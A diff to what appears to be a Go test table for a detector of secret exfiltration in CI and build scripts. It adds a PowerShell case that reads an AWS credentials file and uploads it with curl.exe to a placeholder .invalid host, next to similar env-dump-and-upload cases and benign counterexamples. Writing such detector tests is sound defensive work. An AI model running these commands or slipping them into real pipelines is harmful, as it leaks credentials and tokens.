@@ -204,6 +204,9 @@ var registry = []Rule{
 			// grep keeping the variables of one prefix that names no credential: build info, not secrets.
 			{".gitlab-ci.yml", "release:\n  script:\n    - printenv | grep -E '^CI_COMMIT' > build-info.env\n    - curl --fail --upload-file build-info.env \"$RELEASE_URL/build-info.env\"", 0, true},
 			{"x.sh", "env | grep TOKEN > t.txt\ncurl -T t.txt https://x.invalid/u", 2, false},
+			// PowerShell: a credential file read with Get-Content, written with Out-File, sent by curl.exe.
+			{"tools/ci.ps1", "Get-Content $env:USERPROFILE\\.aws\\credentials | Out-File c.txt\ncurl.exe -T c.txt https://x.invalid/u", 2, false},
+			{"tools/ci.ps1", "Get-Content build.log | Out-File -FilePath out.txt\ncurl.exe -T out.txt https://logs.x.invalid/u", 0, true},
 			// Task's vars and templates, a command folded over lines (- >-), tasks sharing files.
 			{"Taskfile.yml", "version: '3'\nvars:\n  OUT: .cov\ntasks:\n  meta:\n    cmds:\n      - printenv > {{.OUT}}/meta.env\n  push:\n    cmds:\n      - >-\n        curl -sS\n        --upload-file {{.OUT}}/meta.env\n        https://x.invalid/put", 11, false},
 			// Jenkins: what withCredentials binds, written to a file by writeFile, sent by a later sh step.
